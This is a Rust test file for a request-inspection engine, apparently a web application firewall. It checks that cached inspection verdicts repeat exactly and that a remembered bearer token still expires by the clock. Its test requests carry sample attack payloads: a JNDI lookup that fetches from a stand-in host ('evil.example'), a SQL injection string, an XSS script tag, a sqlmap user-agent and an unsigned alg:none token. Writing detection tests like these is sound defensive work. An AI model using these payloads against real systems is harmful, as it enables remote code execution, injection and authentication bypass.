//! A policy remembers what it found in header values, parameter and key names and bearer
//! tokens (they repeat from request to request). Inspecting a request again must give exactly
//! the verdict of the first time, and the clock must still decide token expiry.

use vigil_engine::{CompiledPolicy, Outcome};

mod common;

use common::{b64, get, inspect, inspect_at, with_header};

#[test]
fn second_inspection_equals_the_first() {
    let policy = CompiledPolicy::builtin().unwrap();
    let cases = vec![
        with_header(
            get("/a?id=1"),
            "user-agent",
            "sqlmap/1.7.2#stable (https://sqlmap.org)",
        ),
        with_header(
            get("/a?id=1"),
            "x-forwarded-host",
            "${jndi:ldap://evil.example/a}",
        ),
        with_header(get("/a?%3Cscript%3E=1"), "accept", "application/json"),
        with_header(
            get("/a?q=1' OR '1'='1"),
            "referer",
            "https://example.com/?q=<script>alert(1)</script>",
        ),
        with_header(get("/a"), "user-agent", "Mozilla/5.0 (X11; Linux x86_64)"),
    ];
    for case in &cases {
        let first = inspect(&policy, case);
        let again = inspect(&policy, case);
        assert_eq!(first.outcome, again.outcome, "{}", case.target);
        assert_eq!(first.fired, again.fired, "{}", case.target);
    }
}

#[test]
fn a_remembered_token_still_expires_by_the_clock() {
    let policy = CompiledPolicy::builtin().unwrap();
    let token = format!(
        "Bearer {}.{}.sig",
        b64(r#"{"alg":"HS256"}"#),
        b64(r#"{"sub":"a","exp":1800000000}"#)
    );
    let case = with_header(get("/a"), "authorization", &token);
    let fired = |now: u64| inspect_at(&policy, &case, now).fired;
    assert!(fired(1_700_000_000).is_empty(), "valid");
    assert_eq!(fired(1_900_000_000).len(), 1, "expired, same token");
    assert!(fired(1_700_000_000).is_empty(), "valid again");
    let unsigned = format!("Bearer {}.{}.", b64(r#"{"alg":"none"}"#), b64("{}"));
    let case = with_header(get("/a"), "authorization", &unsigned);
    for _ in 0..2 {
        assert_eq!(inspect_at(&policy, &case, 0).outcome, Outcome::Block);
    }
}
